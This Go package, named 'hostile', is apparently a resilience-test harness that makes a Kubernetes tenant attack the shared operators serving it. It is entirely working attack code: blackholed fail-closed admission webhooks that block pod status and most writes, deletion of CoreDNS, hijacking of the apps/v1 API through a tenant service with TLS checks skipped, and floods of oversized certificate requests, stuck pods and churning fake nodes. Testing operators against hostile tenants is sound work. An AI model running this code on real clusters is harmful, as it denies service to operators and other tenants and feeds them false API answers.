// Package hostile makes a tenant as bad a neighbour as its admin can: every way
// in which one tenant was once seen to stall, starve or deceive the operators
// that serve all, at the same time.
package hostile

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"strings"
	"sync"
	"time"

	admissionv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	certificatesv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/apimachinery/pkg/util/wait"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/util/workqueue"
	"sigs.k8s.io/controller-runtime/pkg/client"
)

const (
	// workers is how many requests are under way at a time.
	workers = 8
	// requests of 0.8 MB each: together more than an operator may use.
	requests    = 300
	requestSize = 800_000
	pods        = 2000
	// nodes that have no machine, and a status of this size.
	nodes    = 60
	nodeSize = 400_000
	// churn is how often one of them changes.
	churn = 50 * time.Millisecond
	// server is the Service that answers for Deployments.
	server = "oversized"
	// slowness of each webhook, in seconds.
	slowness = 10
)

// Attack is under way until Stop.
type Attack struct {
	client client.Client
	cancel context.CancelFunc
	ended  sync.WaitGroup
}

// Start does it all to the tenant that config is the admin of: it returns when
// everything is in place, and the churn goes on until Stop. blackhole is an
// address on which the tenant's API server finds nobody; worker is the Node that
// gets the pods. image is that of the server beside this package, which answers in
// the place of the tenant's API server; without it, nobody does.
func Start(ctx context.Context, config *rest.Config, blackhole, worker, image string) (*Attack, error) {
	config = rest.CopyConfig(config)
	config.QPS = -1
	c, err := client.New(config, client.Options{})
	if err != nil {
		return nil, err
	}
	a := &Attack{client: c}
	for _, step := range []struct {
		name string
		do   func(context.Context) error
	}{
		{"server of oversized answers", func(ctx context.Context) error { return a.serve(ctx, image, worker) }},
		// From here on no kubelet can say that a pod has ended.
		{"refuse the status of pods", func(ctx context.Context) error {
			return a.webhook(ctx, "status", blackhole, 1, admissionv1.Update, "pods/status")
		}},
		{"pods", func(ctx context.Context) error {
			return a.many(ctx, pods, func(n int) client.Object { return pod(n, worker) })
		}},
		{"certificate signing requests", a.requests},
		{"nodes", a.nodes},
		// Whoever puts it back meets what comes next.
		{"remove cluster DNS", func(ctx context.Context) error {
			return client.IgnoreNotFound(a.client.Delete(ctx, &appsv1.Deployment{
				ObjectMeta: metav1.ObjectMeta{Namespace: metav1.NamespaceSystem, Name: "coredns"},
			}))
		}},
		{"repoint the API of Deployments", a.repoint},
		// Last, because it slows down and refuses what this program does too.
		{"refuse everything else, slowly", func(ctx context.Context) error {
			return a.webhook(ctx, "everything", blackhole, slowness, admissionv1.OperationAll,
				"configmaps", "secrets", "services", "serviceaccounts", "deployments", "nodes", "pods", "pods/eviction",
				"clusterroles", "clusterrolebindings", "roles", "rolebindings",
				"certificatesigningrequests", "certificatesigningrequests/approval")
		}},
	} {
		if err := step.do(ctx); err != nil {
			return nil, fmt.Errorf("%s: %w", step.name, err)
		}
	}
	ctx, a.cancel = context.WithCancel(context.WithoutCancel(ctx))
	a.ended.Go(func() { a.churn(ctx) })
	return a, nil
}

// Stop ends the churn. What was made stays.
func (a *Attack) Stop() {
	a.cancel()
	a.ended.Wait()
}

// many creates n objects.
func (a *Attack) many(ctx context.Context, n int, object func(int) client.Object) error {
	ctx, cancel := context.WithCancelCause(ctx)
	defer cancel(nil)
	workqueue.ParallelizeUntil(ctx, workers, n, func(i int) {
		if err := client.IgnoreAlreadyExists(a.client.Create(ctx, object(i))); err != nil {
			cancel(err)
		}
	})
	return context.Cause(ctx)
}

// pod waits on its worker for a Secret that never comes, and costs the guest
// nothing but its watch.
func pod(n int, worker string) client.Object {
	return &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: metav1.NamespaceDefault, Name: fmt.Sprintf("burden-%d", n)},
		Spec: corev1.PodSpec{
			NodeName:   worker,
			Containers: []corev1.Container{{Name: "c", Image: "absent.invalid/image"}},
			Volumes: []corev1.Volume{{Name: "v", VolumeSource: corev1.VolumeSource{
				Secret: &corev1.SecretVolumeSource{SecretName: "absent"},
			}}},
		},
	}
}

// requests are for serving certificates, the kind that the kvm-operator looks
// at; their size is in the PEM headers, which nobody forbids.
func (a *Attack) requests(ctx context.Context) error {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return err
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{
		Subject: pkix.Name{CommonName: "system:node:nobody", Organization: []string{"system:nodes"}}, DNSNames: []string{"nobody"},
	}, key)
	if err != nil {
		return err
	}
	encoded := pem.EncodeToMemory(&pem.Block{
		Type: "CERTIFICATE REQUEST", Headers: map[string]string{"Padding": strings.Repeat("x", requestSize)}, Bytes: der,
	})
	return a.many(ctx, requests, func(n int) client.Object {
		return &certificatesv1.CertificateSigningRequest{
			ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("flood-%d", n)},
			Spec: certificatesv1.CertificateSigningRequestSpec{
				Request: encoded, SignerName: certificatesv1.KubeletServingSignerName,
				Usages: []certificatesv1.KeyUsage{certificatesv1.UsageDigitalSignature, certificatesv1.UsageServerAuth},
			},
		}
	})
}

func (a *Attack) nodes(ctx context.Context) error {
	return a.many(ctx, nodes, func(n int) client.Object {
		return &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("churn-%d", n)}}
	})
}

// churn changes the status of one Node after the other. The webhooks leave it alone.
func (a *Attack) churn(ctx context.Context) {
	ticker := time.NewTicker(churn)
	defer ticker.Stop()
	for n := 0; ; n++ {
		select {
		case <-ctx.Done():
			return
		case <-ticker.C:
		}
		node := &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("churn-%d", n%nodes)}}
		patch := fmt.Sprintf(`{"status":{"images":[{"names":["%d-%s"]}]}}`, n, strings.Repeat("x", nodeSize))
		// The tenant's own API server may well refuse, or be too slow: it goes on with the next.
		_ = a.client.Status().Patch(ctx, node, client.RawPatch("application/merge-patch+json", []byte(patch)))
	}
}

// serve has a pod answer for the Service that Deployments are asked of.
func (a *Attack) serve(ctx context.Context, image, worker string) error {
	service := &corev1.Service{
		ObjectMeta: metav1.ObjectMeta{Namespace: metav1.NamespaceDefault, Name: server},
		Spec: corev1.ServiceSpec{
			Selector: map[string]string{"app": server},
			Ports:    []corev1.ServicePort{{Port: 443, TargetPort: intstr.FromInt32(8443)}},
		},
	}
	if err := a.client.Create(ctx, service); client.IgnoreAlreadyExists(err) != nil {
		return err
	}
	if image == "" {
		return nil
	}
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: metav1.NamespaceDefault, Name: server, Labels: service.Spec.Selector},
		Spec:       corev1.PodSpec{NodeName: worker, Containers: []corev1.Container{{Name: "c", Image: image}}},
	}
	if err := a.client.Create(ctx, pod); client.IgnoreAlreadyExists(err) != nil {
		return err
	}
	return wait.PollUntilContextTimeout(ctx, time.Second, 5*time.Minute, true, func(ctx context.Context) (bool, error) {
		err := a.client.Get(ctx, client.ObjectKeyFromObject(pod), pod)
		return pod.Status.Phase == corev1.PodRunning, err
	})
}

// repoint sends everybody who asks for Deployments to a Service of the tenant's own.
func (a *Attack) repoint(ctx context.Context) error {
	service := &unstructured.Unstructured{Object: map[string]any{
		"apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService", "metadata": map[string]any{"name": "v1.apps"},
		"spec": map[string]any{
			"group": "apps", "version": "v1", "groupPriorityMinimum": int64(17800), "versionPriority": int64(15),
			"insecureSkipTLSVerify": true, "service": map[string]any{"namespace": metav1.NamespaceDefault, "name": server},
		},
	}}
	return a.client.Patch(ctx, service, client.Merge)
}

// webhook that fails closed when its server has not answered after some seconds.
func (a *Attack) webhook(ctx context.Context, name, blackhole string, seconds int32, operation admissionv1.OperationType, resources ...string) error {
	return client.IgnoreAlreadyExists(a.client.Create(ctx, &admissionv1.ValidatingWebhookConfiguration{
		ObjectMeta: metav1.ObjectMeta{Name: "hostile-" + name},
		Webhooks: []admissionv1.ValidatingWebhook{{
			Name:                    name + ".hostile.example.com",
			AdmissionReviewVersions: []string{"v1"},
			SideEffects:             new(admissionv1.SideEffectClassNone),
			FailurePolicy:           new(admissionv1.Fail),
			TimeoutSeconds:          new(seconds),
			ClientConfig:            admissionv1.WebhookClientConfig{URL: new("https://" + blackhole + "/")},
			Rules: []admissionv1.RuleWithOperations{{
				Operations: []admissionv1.OperationType{operation},
				Rule:       admissionv1.Rule{APIGroups: []string{"*"}, APIVersions: []string{"*"}, Resources: resources},
			}},
		}},
	}))
}
